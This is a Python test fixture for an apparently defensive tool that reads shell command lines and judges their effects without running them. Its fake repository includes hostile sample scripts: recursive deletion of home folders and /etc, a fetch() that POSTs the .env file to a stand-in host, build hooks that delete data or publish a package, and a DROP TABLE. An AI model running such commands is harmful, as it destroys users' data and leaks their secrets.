"""A home with a repository, in which many lines are understood and everything about their effects is text."""

from __future__ import annotations

import os
from typing import TYPE_CHECKING

from clickstop.policy.judge import judge, judge_self
from clickstop.policy.scene import Scene
from clickstop.shell.changes import may_change_files
from clickstop.shell.folders import folder_of
from clickstop.shell.line import split
from clickstop.shell.ordinary import is_ordinary
from clickstop.shell.programs import program, script_text
from clickstop.shell.scope import ALL, CONTENTS, DECODED, FETCHED, UNKNOWN, Guarded
from clickstop.shell.understand import understand

if TYPE_CHECKING:
    from pathlib import Path

    from clickstop.shell.effect import Effect

FILES = {
    "README.md": "# Shop\n",
    "a.py": "x\n",
    "b.py": "x\n",
    "file.txt": "new\n",
    "empty.txt": "",
    "src/app.py": "APP = 2\n",
    "src/cart.py": "CART = 1\n",
    "src/new.py": "NEW = 1\n",
    "src/.hidden.py": "x\n",
    "docs/notes.md": "notes\n",
    "docs/OLD.MD": "notes\n" * 300,
    ".env": "KEY=value\n",
    ".env.example": "KEY=\n",
    ".gitignore": ".env\n",
    "Makefile": "clean:\n\trm -rf build\n",
    "package.json": '{"scripts": {"test": "jest"}}\n',
    "scripts/seed.py": "print('seeded')\n",
    "scripts/check.sh": "echo checked\n",
    "certs/server.key": "key\n",
    "data/shop.db": "SQLite format 3",
    "data/test.db": "SQLite format 3",
    "build/out.js": "1\n",
    "node_modules/left-pad/index.js": "1\n",
    "app.log": "started\n",
    "my file.txt": "x\n",
    ".git/config": "[core]\n",
    ".git/hooks/pre-commit.sample": "x\n",
    # What this session has written: see `Household.script`.
    "written/wipe.sh": "rm -rf ~/Documents\n",
    "written/seed.py": "import shutil\nshutil.rmtree('/etc')\n",
    "written/send.js": "fetch('https://x.example', {method: 'POST', body: fs.readFileSync('.env')})\n",
    "written/Makefile": "CACHE = ~/.cache\nall: wipe\n\techo done\nwipe:\n\t@rm -rf $(CACHE)\n",
    "written/package.json": '{"scripts": {"prebuild": "rm -rf ~/a", "build": "rm -rf ~/b", "go": "npm publish"}}\n',
    "written/drop.sql": "DROP TABLE cart;\n",
    "../.ssh/id_ed25519": "key\n",
    "../.ssh/id_ed25519.pub": "key\n",
    "../.aws/credentials": "key\n",
    "../.netrc": "x\n",
    "../.npmrc": "x\n",
    "../.bashrc": "x\n",
    "../other-project/README.md": "x\n",
    "../other-project/.git/config": "x\n",
    "../Documents/letter.txt": "x\n",
    "../.local/state/clickstop/store.db": "x\n",
}
_MARKS = {UNKNOWN: "{unknown}", FETCHED: "{fetched}", DECODED: "{decoded}", ALL: "{each}"}
_MARKS |= dict.fromkeys(CONTENTS, "{read}")
_FLAGS = ("recursive", "forced")


def _changes(line: str) -> bool:
    return may_change_files(line, frozenset(line.split()))


class Household:
    """Understands lines in `REPO`. Nothing in them runs, and git is not called."""

    def __init__(self, folder: Path) -> None:
        self.top = str(folder)
        self.home = str(folder / "dev")
        self.root = str(folder / "dev" / "shop")
        for name, text in FILES.items():
            path = os.path.normpath(os.path.join(self.root, name))
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w", encoding="utf-8") as file:
                file.write(text)
        os.symlink("src", os.path.join(self.root, "link"))
        os.symlink("/etc", os.path.join(self.root, "etc"))
        state = os.path.join(self.home, ".local", "state", "clickstop")
        texts = (state, ".local/state/clickstop")
        self.guarded = Guarded((state,), texts, (os.path.join(self.root, ".clickstop"), state))
        self.environ = {"EDITOR": "vim", "TOKEN_FILE": f"{self.home}/.netrc", "EMPTY": "", "OUT": "build"}
        self._names = str.maketrans(_MARKS)

    def effects(self, line: str) -> list[Effect]:
        copies = {os.path.join(self.root, "data", "copy.txt"): os.path.join(self.root, ".env")}
        return understand(
            line,
            cwd=self.root,
            root=self.root,
            home=self.home,
            wrappers=("mywrap",),
            environ=self.environ,
            guarded=self.guarded,
            ask_git=self._ask_git,
            read_script=self._script,
            copies=copies if "copy.txt" in line else None,
        )

    def _ask_git(self, kind: str) -> list[str]:
        names = ("src/app.py", "file.txt") if kind == "changed" else ("src/new.py",)
        return [os.path.join(self.root, name) for name in names]

    def _script(self, path: str) -> str | None:
        name = os.path.relpath(path, self.root)
        return FILES.get(name) if name.startswith("written/") else None

    def scene(self, line: str) -> Scene:
        return Scene(
            cwd=self.root,
            root=self.root,
            home=self.home,
            environ=self.environ,
            branch="work",
            protected=("main", "release/*"),
            line=line,
        )

    def summary(self, line: str) -> str:
        """Return the effects of a line with all their fields."""
        return self._lines(self.effects(line), self.scene(line))

    def effects_and_rules(self, line: str) -> str:
        """Return the effects of a line, and below them the rules that apply."""
        effects, scene = self.effects(line), self.scene(line)
        policy = {"ours": [os.path.join(self.root, ".clickstop"), *self.guarded.folders]}
        findings = judge(effects, policy, scene) + judge_self(effects, policy, scene)
        rules = dict.fromkeys(f"-> {finding.verdict}/{finding.unattended} {finding.rule}" for finding in findings)
        return "\n".join(filter(None, (self._lines(effects, scene), *rules)))

    def _lines(self, effects: list[Effect], scene: Scene) -> str:
        places = {effect.path: scene.place(effect) for effect in effects if effect.path}
        return self.plain("\n".join(self._effect(effect, places.get(effect.path, "")) for effect in effects))

    def read(self, line: str) -> str:
        """Return what is known of a line without the grammar: its calls, their programs, whether it is ordinary."""
        cwd = self.root
        marks = [name for name, holds in (("ordinary", is_ordinary(line)), ("changes", _changes(line))) if holds]
        rows = [" ".join([*marks, f"in {folder_of(line, cwd)}"])]
        for call in split(line):
            words = program(call.words)
            row = [repr(call.before), *call.assignments, repr(call.words)]
            row += [f"runs {words!r}"] if words != call.words else []
            row += [f"text {script_text(words)!r}"] if words and script_text(words) else []
            row += [f"inside {call.inside!r}"] if call.inside else []
            row += [f"fed {call.stdin!r}"] if call.stdin else []
            rows.append(" ".join([*row, *(name for name in ("hidden", "background") if getattr(call, name))]))
        return self.plain("\n".join(rows))

    def plain(self, text: str) -> str:
        """Replace the folders by short names, and our marks by words."""
        text = text.replace(self.root, "REPO").replace(self.home, "HOME").replace(self.top, "TOP")
        text = text.translate(self._names)
        return "\n".join(line if line.isprintable() else repr(line)[1:-1] for line in text.split("\n"))

    def _effect(self, effect: Effect, place: str) -> str:
        row = [f"{effect.kind}:"]
        for name in ("program", "target", "path", "detail", "extent", "where", "only"):
            value = getattr(effect, name).translate(self._names)
            is_plain = " " not in value and value.isprintable()
            row += [f"{name}={value}" if is_plain else f"{name}={value!r}"] if value else []
        row += [name for name in _FLAGS if getattr(effect, name)]
        row += [f"without={','.join(effect.without)}"] if effect.without else []
        return " ".join([*row, f"({place})"] if place else row)
